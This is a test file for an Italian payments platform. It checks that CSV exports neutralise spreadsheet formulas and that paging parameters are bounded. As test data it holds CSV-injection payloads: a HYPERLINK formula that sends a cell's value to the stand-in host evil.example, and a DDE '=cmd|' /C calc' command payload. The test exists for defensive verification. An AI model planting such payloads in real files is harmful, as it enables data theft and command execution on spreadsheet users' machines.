/**
 * Issue #14 §4: formulas in every CSV the platform writes are neutralised (helpdesk export,
 * back-office export, import error report, simulated treasury statement), and every paging
 * parameter is bounded: out of range → 400 with a message (never 500), past the last page → an
 * empty page (API) or the last page (pages).
 */
import t from 'tap';
import { parse } from 'csv-parse/sync';
import { demoUserFiscalCodes } from '../../src/modules/enti/demo-seed.js';
import { buildTestApp, loginAs } from '../helpers.js';
import { createTari } from '../pagopa/helpers.js';
import { apiKeyFor, demoEnte } from '../positions/fixtures.js';

const users = demoUserFiscalCodes();
const HELPDESK = users.find((u) => u.role === 'helpdesk')!.fiscalCode;
const OP_CB = users.find((u) => u.role === 'operator' && u.enteIstat === '070006')!.fiscalCode;

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Dettagli")';
const CMD = "=cmd|' /C calc'!A0";

function csvRows(body: string): Record<string, string>[] {
  return parse(body.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];
}

t.test('CSV exports never hand a formula to a spreadsheet', async (t) => {
  const app = await buildTestApp(t);
  const cb = (await demoEnte(app, 'Campobasso')).ente;
  const hostile = await createTari(app, { debtor: { type: 'F', fiscalCode: 'RSSMRA85T10A562S', fullName: HYPERLINK }, description: CMD });

  await t.test('helpdesk payments export', async (t) => {
    const res = await app.inject({ url: `/helpdesk/pagamenti?format=csv&q=${hostile.options[0]!.noticeNumber}`, headers: { accept: 'text/html', cookie: await loginAs(app, HELPDESK) } });
    t.equal(res.statusCode, 200);
    const rows = csvRows(res.body);
    t.equal(rows.length, 1);
    t.equal(rows[0]!.debitore, `'${HYPERLINK}`);
    t.equal(rows[0]!.importo, '300,00', 'amounts stay numbers');
    for (const row of rows) for (const cell of Object.values(row)) t.notMatch(cell, /^[=+\-@\t\r]/, `cell ${cell}`);
  });

  await t.test('back-office positions export', async (t) => {
    const res = await app.inject({ url: `/backoffice/enti/${cb.id}/posizioni.csv?debtor=RSSMRA85T10A562S`, headers: { cookie: await loginAs(app, OP_CB) } });
    t.equal(res.statusCode, 200);
    const rows = csvRows(res.body).filter((r) => r.iupd === hostile.iupd);
    t.equal(rows.length, 4);
    t.equal(rows[0]!.nominativo_debitore, `'${HYPERLINK}`);
    t.equal(rows[0]!.descrizione, `'${CMD}`);
  });

  await t.test('simulated treasury statement', async (t) => {
    const { treasuryCsv } = await import('../../src/simulators/pagopa/treasury.js');
    const csv = treasuryCsv([{ movementId: 'M1', bookingDate: '2026-03-02', valueDate: '2026-03-02', amountCents: 100, causale: '@SUM(1+1)', flowId: 'F' }], 'IT60X0542811101000000123456');
    t.equal(csvRows(csv)[0]!.causale, "'@SUM(1+1)");
  });
});

t.test('paging parameters are bounded everywhere', async (t) => {
  const app = await buildTestApp(t);
  const cb = (await demoEnte(app, 'Campobasso')).ente;
  const key = await apiKeyFor(app, cb.id);
  const op = await loginAs(app, OP_CB);
  const staff = await loginAs(app, HELPDESK);
  await createTari(app);

  await t.test('API /api/v1/positions', async (t) => {
    for (const page of ['1e300', '99999999999999999999', '0', '-1', '1.5', 'abc', '1000001']) {
      const res = await app.inject({ url: `/api/v1/positions?page=${page}`, headers: { authorization: `Bearer ${key}` } });
      t.equal(res.statusCode, 400, `page=${page}`);
      t.match(res.json(), { status: 400, errors: [{ field: /page/ }] }, `page=${page}: names the field`);
    }
    for (const size of ['1e300', '201', '0']) {
      const res = await app.inject({ url: `/api/v1/positions?pageSize=${size}`, headers: { authorization: `Bearer ${key}` } });
      t.equal(res.statusCode, 400, `pageSize=${size}`);
    }
    const last = await app.inject({ url: '/api/v1/positions?page=1000000&pageSize=200', headers: { authorization: `Bearer ${key}` } });
    t.equal(last.statusCode, 200, 'the largest page allowed');
    t.match(last.json(), { page: 1000000, items: [] }, 'past the last page: empty');
    t.ok(last.json().total >= 1);
  });

  await t.test('back-office list of positions and its CSV', async (t) => {
    const base = `/backoffice/enti/${cb.id}/posizioni`;
    for (const page of ['1e300', '99999999999999999999', '0', 'abc', '100001']) {
      const res = await app.inject({ url: `${base}?page=${page}`, headers: { accept: 'text/html', cookie: op } });
      t.equal(res.statusCode, 400, `page=${page}`);
      t.match(res.headers['content-type'], /text\/html/);
      t.match(res.body, /Numero di pagina non valido: indica un numero intero da 1 a 100\.000/, `page=${page}: says what is wrong`);
      const csv = await app.inject({ url: `${base}.csv?page=${page}`, headers: { cookie: op } });
      t.equal(csv.statusCode, 400, `CSV page=${page}`);
    }
    const first = await app.inject({ url: base, headers: { accept: 'text/html', cookie: op } });
    const pages = Number(/pagina \d+ di (\d+)/.exec(first.body)?.[1]);
    t.ok(pages >= 1);
    const beyond = await app.inject({ url: `${base}?page=100000`, headers: { accept: 'text/html', cookie: op } });
    t.equal(beyond.statusCode, 200, 'past the last page');
    t.match(beyond.body, new RegExp(`pagina ${pages} di ${pages}`), 'shows the last page');
    t.match(beyond.body, /La pagina 100000 non esiste/);
    t.notMatch(beyond.body, /Nessuna posizione corrisponde/, 'with its rows');
  });

  await t.test('helpdesk payment search', async (t) => {
    for (const page of ['1e300', '99999999999999999999', '0']) {
      const res = await app.inject({ url: `/helpdesk/pagamenti?page=${page}`, headers: { accept: 'text/html', cookie: staff } });
      t.equal(res.statusCode, 400, `page=${page}`);
      t.match(res.body, /Numero di pagina non valido/);
    }
    const beyond = await app.inject({ url: '/helpdesk/pagamenti?page=100000', headers: { accept: 'text/html', cookie: staff } });
    t.equal(beyond.statusCode, 200);
  });
});
